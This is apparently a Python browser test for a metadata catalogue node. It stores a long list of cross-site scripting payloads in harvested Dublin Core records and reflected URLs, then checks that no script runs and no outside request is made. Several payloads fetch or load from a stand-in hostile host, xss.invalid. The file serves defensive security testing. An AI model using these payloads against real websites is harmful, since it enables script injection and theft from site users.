"""Mark-up that strangers store in metadata, seen by a real browser: it is text on every page, and none of it runs.

Each page is opened twice: as it is, and with the browser told to ignore the page's Content-Security-Policy, so that the
escaping is proved without the policy behind it. Wants Chromium (Debian: `apt-get install chromium`).
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, urlsplit
from xml.sax.saxutils import escape

import pytest
from playwright.sync_api import BrowserContext, Page, sync_playwright

from tests.servers.fairnode import Home
from tests.servers.oai_pages import OaiPages

HOSTILE = "xss.invalid"
RUN = f"window.markupRan=1;alert(1);fetch('//{HOSTILE}/')"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<script>{RUN}",
    f"<script src=//{HOSTILE}/a.js></script>",
    f'<script type="module">import "//{HOSTILE}/m.js"</script>',
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img src=//{HOSTILE}/i.png>",
    f'<img srcset="//{HOSTILE}/i.png 2x">',
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href=//{HOSTILE}/u.svg#a>",
    f"<svg><image href=//{HOSTILE}/i.svg>",
    f"<math><mtext><script>{RUN}</script>",
    f"<body onload={RUN}>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<iframe src=//{HOSTILE}/></iframe>",
    f"<object data=//{HOSTILE}/o></object>",
    f"<embed src=//{HOSTILE}/e>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=//{HOSTILE}/a onerror={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<button popovertarget=p onclick={RUN}>x</button>",
    f"<marquee onstart={RUN}>",
    f'<p style="background:url(//{HOSTILE}/c.png)">x</p>',
    f"<style>@import '//{HOSTILE}/s.css';</style>",
    f"<link rel=stylesheet href=//{HOSTILE}/s.css>",
    f"<link rel=prefetch href=//{HOSTILE}/p>",
    f'<meta http-equiv=refresh content="0;url=//{HOSTILE}/">',
    f"<base href=//{HOSTILE}/>",
    f"<form action=//{HOSTILE}/><input type=submit autofocus></form>",
    f'<a href="javascript:{RUN}" autofocus>x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    f"<x onclick={RUN} tabindex=0 autofocus onfocus={RUN}>",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{% if 1 %}}<script>{RUN}</script>{{% endif %}}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\u2028<script>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
    f"\u202e<script>{RUN}</script>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"` onmouseover={RUN} x=`",
)
FIELDS = (
    "title", "creator", "subject", "description", "publisher", "contributor", "date", "type", "format",
    "identifier", "source", "language", "relation", "coverage", "rights",
)  # fmt: skip
REFLECTED = (
    "/{}", "/sources/{}", "/sources?after={}", "/dataset/{}", "/record/{}.html", "/audit/{}",
    "/sources/hostile/runs/{}", "/registrations/{}", "/oai?verb={}",
    "/oai?verb=GetRecord&metadataPrefix=oai_dc&identifier={}",
    "/sparql?query={}", "/preflight?url={}", "/login/{}", "/login?next={}",
)  # fmt: skip
_MOST_PAGES = 100
_RECORDS = 22


@pytest.fixture(scope="module")
def chromium() -> str:
    path = os.environ.get("CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
    if path is None:
        pytest.skip("there is no Chromium on this machine; CHROMIUM names it, Debian's package is `chromium`")
    return path


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, list[str]]]:
    """A node that harvested and audited hostile records, and the addresses of their pages."""
    home = Home(tmp_path_factory.mktemp("markup") / "home")
    home.run("init")
    with OaiPages([record(number) for number in range(_RECORDS)]) as repository:
        home.run("source", "add", repository.url, "--name", "hostile")
        home.run("harvest", "hostile", status=None)
    home.run("audit", "run", "hostile", status=None)
    with home.serving() as base:
        query = "SELECT ?record { ?record a <http://www.w3.org/ns/dcat#CatalogRecord> }"
        found = json.loads(home.run("query", query, "--format", "json").stdout)
        names = [row["record"]["value"].rpartition("/")[2] for row in found["results"]["bindings"]]
        assert len(names) == _RECORDS
        yield base, [f"{base}/dataset/{name}" for name in sorted(names)]


def record(number: int) -> bytes:
    """Every field several times over: each payload is in every field of a record."""
    payloads = PAYLOADS[number::_RECORDS]
    fields = "".join(f"<dc:{name}>{escape(payload)}</dc:{name}>" for name in FIELDS for payload in payloads)
    return (
        f"<record><header><identifier>oai:hostile:{number}</identifier><datestamp>2026-01-01T00:00:00Z</datestamp>"
        f"</header><metadata><oai_dc:dc xmlns:oai_dc='http://www.openarchives.org/OAI/2.0/oai_dc/' "
        f"xmlns:dc='http://purl.org/dc/elements/1.1/'>{fields}</oai_dc:dc></metadata></record>"
    ).encode()


class Watch:
    """What a browser did that it should not have done."""

    def __init__(self, page: Page, origin: str) -> None:
        self.seen: list[str] = []
        self._page, self._origin = page, origin
        page.on("dialog", lambda dialog: (self.seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("request", self._request)
        page.on("console", self._console)
        page.on("popup", lambda popup: self.seen.append(f"popup {popup.url}"))

    def open(self, url: str) -> list[str]:
        """Open a page, give it a moment, and return the links to pages of the same site."""
        self._page.goto(url, wait_until="load")
        assert not self._page.evaluate("window.markupRan"), f"a script of the metadata ran on {url}"
        links = self._page.eval_on_selector_all("a[href]", "found => found.map(one => one.href)")
        for link in links:
            assert urlsplit(link).scheme in ("http", "https", "mailto", "ftp"), f"{url} links to {link[:80]}"
        return [link.partition("#")[0] for link in links if link.startswith(f"{self._origin}/")]

    def _request(self, request: object) -> None:
        url = str(getattr(request, "url", ""))
        if not url.startswith((f"{self._origin}/", "data:image/")):
            self.seen.append(f"request {url}")

    def _console(self, message: object) -> None:
        text = str(getattr(message, "text", ""))
        if "Content Security Policy" not in text and "Content-Security-Policy" not in text:
            return
        # Chromium shows XML by a viewer of its own, and the policy stops the viewer's styles: nothing of the record's.
        if not (urlsplit(self._page.url).path == "/oai" and text.startswith("Applying inline style")):
            self.seen.append(f"policy {self._page.url} {text}")


@pytest.fixture(params=[False, True], ids=["as it is", "without the policy"])
def context(request: pytest.FixtureRequest, chromium: str) -> Iterator[BrowserContext]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        try:
            yield browser.new_context(bypass_csp=request.param)
        finally:
            browser.close()


def test_nothing_of_a_record_runs_or_is_fetched_on_any_page(
    site: tuple[str, list[str]], context: BrowserContext
) -> None:
    base, records = site
    watch = Watch(context.new_page(), base)
    todo = [f"{base}/", f"{base}/sources", f"{base}/audit", f"{base}/sparql", *records]
    opened: set[str] = set()

    while todo and len(opened) < _MOST_PAGES:
        url = todo.pop(0)
        if url in opened or is_download(url):
            continue
        opened.add(url)
        links = watch.open(url)
        # What every record's page links to is opened from one of them.
        todo += [link for link in links if link not in opened] if url not in records[1:] else []

    assert set(records) <= opened
    assert any("/sources/hostile" in url for url in opened) and any("/audit/" in url for url in opened)
    assert watch.seen == []


def test_what_a_request_says_never_runs_in_the_answer(site: tuple[str, list[str]], context: BrowserContext) -> None:
    base, _ = site
    watch = Watch(context.new_page(), base)

    for number, payload in enumerate(PAYLOADS):
        watch.open(base + REFLECTED[number % len(REFLECTED)].format(quote(payload, safe="")))

    assert watch.seen == []


def test_rdf_and_xml_of_a_record_are_no_pages_to_a_browser(
    site: tuple[str, list[str]], context: BrowserContext
) -> None:
    base, records = site
    page = context.new_page()
    watch = Watch(page, base)

    for url in records[::7]:
        for extension in ("ttl", "jsonld", "rdf", "nt"):
            answer = context.request.get(f"{url}.{extension}")
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert "sandbox" in answer.headers["content-security-policy"]
    watch.open(f"{base}/oai?verb=ListRecords&metadataPrefix=oai_dc")
    watch.open(f"{base}/oai?verb=ListRecords&metadataPrefix=dcat")

    assert watch.seen == []


def is_download(url: str) -> bool:
    path = Path(urlsplit(url).path)
    return path.suffix in (".ttl", ".rdf", ".nt", ".jsonld", ".json", ".csv", ".xml", ".trig")
